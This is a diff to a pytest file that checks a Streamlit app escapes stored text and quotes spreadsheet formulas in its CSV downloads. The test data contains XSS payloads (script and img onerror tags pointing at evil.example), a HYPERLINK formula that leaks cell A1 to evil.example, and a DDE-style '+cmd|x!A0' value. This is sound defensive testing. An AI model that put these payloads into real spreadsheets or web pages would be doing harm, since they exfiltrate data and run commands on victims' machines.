@@ -9,6 +9,8 @@ option labels, metric and button labels) and every string in every Plotly spec i
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import shutil
@@ -21,7 +23,8 @@ from qa_core.store import Store
 from tests.pages.conftest import app_over
 
 PAYLOAD = ("<script>window.__x=1</script> <img src=https://evil.example/i.png onerror=window.__y=1> "
-           "[click](https://evil.example/l) ![im](https://evil.example/m.png) https://evil.example/bare")
+           "[click](https://evil.example/l) ![im](https://evil.example/m.png) https://evil.example/bare "
+           '<a href="https://evil.example/a">a</a> x.y@evil.example')
 P = PAYLOAD.replace("'", "''")  # as an SQL literal (it has no quote, but stay safe)
 
 # Each text column the pages show: names keep their id in front, so they stay distinct.
@@ -40,6 +43,7 @@ INJECT = [
     f"UPDATE risk SET title = 'Risk {P}', description = 'Description {P}', owner = 'Owner {P}'",
     f"UPDATE risk_review SET controls = 'Controls {P}', reasons = 'Reasons {P}', outlook = 'Outlook {P}'",
     f"UPDATE risk_matrix SET name = matrix_id || ' {P}'",
+    f"UPDATE risk_matrix_cell SET band = band || ' {P}'",
     f"UPDATE published_la SET name = name || ' {P}', region_name = region_name || ' {P}'",
     f"UPDATE published_measure SET name = measure || ' {P}', source = 'Source {P}'",
 ]
@@ -65,8 +69,9 @@ def app(injected_db: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator:
     yield from app_over(injected_db, monkeypatch)
 
 
-# Live Markdown: a link or image not escaped, an HTML tag not escaped, or a bare link's scheme.
-LIVE_MD = re.compile(r"(?<!\\)\]\(|!\[|(?<!\\)<(img|script)|https?://")
+# Live Markdown: a link or image not escaped, an HTML tag not escaped, a bare link's scheme, or an
+# email address (GFM links "x@y.example" as mailto:).
+LIVE_MD = re.compile(r"(?<!\\)\]\(|!\[|(?<!\\)<(a|img|script)|https?://|[\w.+-]@[\w-]")
 LIVE_HTML = re.compile(r"<(a|img|script)\b", re.IGNORECASE)
 
 
@@ -172,3 +177,75 @@ def test_the_sidebar_shows_store_text_escaped(app):
     assert any("Published comparisons use" in text for _, text in texts)  # the caption was checked
     live = [(kind, text) for kind, text in texts if LIVE_MD.search(text)]
     assert not live, f"the sidebar shows store text as live Markdown: {live[:2]}"
+
+
+# -- downloads: no stored text opens as a formula in a spreadsheet (issue 11, finding 4) -----------
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x") '
+F = FORMULA.replace("'", "''")
+FORMULA_INJECT = [
+    f"UPDATE service SET name = '{F}' || name, head_of_service = '+cmd|x!A0 ' || head_of_service",
+    f"UPDATE team SET name = '{F}' || name, manager = '@SUM(1) ' || manager",
+    f"UPDATE indicator SET name = '{F}' || name",
+    f"UPDATE plan_area SET name = '{F}' || name, lead = '-2+3 ' || lead",
+    f"UPDATE plan_priority SET description = '{F}' || description",
+    f"UPDATE audit_action SET description = '{F}' || description, owner = '\t=1 ' || owner",
+    f"UPDATE audit_area_grade SET area = '{F}' || area",
+    f"UPDATE risk SET title = '{F}' || title, owner = ' =1 ' || owner",
+    f"UPDATE risk_matrix SET name = '{F}' || name",
+    f"UPDATE published_la SET name = '{F}' || name",
+    f"UPDATE published_measure SET name = '{F}' || name",
+    "INSERT INTO import_log (imported_at, user_name, file_name, file_sha256, kind, status, messages) VALUES "
+    f"(TIMESTAMP '2026-11-02 09:00', '@evil', '{F}.csv', 'ab', 'risks', 'imported', '-1+1 messages')",
+]
+
+
+def _opens_a_formula(cell: str) -> bool:
+    """A spreadsheet runs a cell that starts with = + - @ (after spaces) or a tab or carriage
+    return, unless it is a number or a lone sign."""
+    if not (cell.lstrip()[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")):
+        return False
+    try:
+        float(cell.strip().rstrip("%").replace(",", ""))
+        return cell.strip().lstrip("+-")[:1] not in tuple("0123456789.")
+    except ValueError:
+        return cell.strip() not in ("+", "-")
+
+
+@pytest.fixture(scope="module")
+def formula_db(demo_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    db = tmp_path_factory.mktemp("formulas") / "qa.duckdb"
+    shutil.copy(demo_db, db)
+    with Store(db) as store:
+        for sql in FORMULA_INJECT:
+            store.execute(sql)
+    return db
+
+
+def test_no_csv_download_carries_a_live_formula(formula_db, monkeypatch):
+    """Every CSV download on every view (charts' data, tables, registers, the team report, the
+    import log): stored text that a spreadsheet would run is written with a quote in front."""
+    from streamlit.runtime.media_file_manager import MediaFileManager
+
+    downloads: dict[str, bytes] = {}
+    add = MediaFileManager.add
+
+    def recording(self, data, mimetype, coordinates, file_name=None, **kwargs):
+        downloads[file_name or coordinates] = data if isinstance(data, bytes) else str(data).encode()
+        return add(self, data, mimetype, coordinates, file_name=file_name, **kwargs)
+
+    monkeypatch.setattr(MediaFileManager, "add", recording)
+    for app in app_over(formula_db, monkeypatch):
+        for page, service, state in VIEWS:
+            _open(app, page, service, **state)
+            assert not app.exception, f"{page}: {app.exception[0].message}"
+    csvs = {name: data for name, data in downloads.items() if name.endswith(".csv")}
+    assert len(csvs) >= 30, sorted(downloads)
+    quoted = 0
+    for name, data in csvs.items():
+        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+        live = [cell for row in rows for cell in row if _opens_a_formula(cell)]
+        assert not live, f"{name}: {live[:3]}"
+        quoted += sum(cell.startswith("'") for row in rows for cell in row)
+    assert quoted > 100  # the injected text was there, quoted
+    log = list(csv.DictReader(io.StringIO(csvs["import-log.csv"].decode("utf-8"))))
+    assert (log[0]["File"], log[0]["Who"], log[0]["Messages"]) == ("'" + FORMULA + ".csv", "'@evil", "'-1+1 messages")
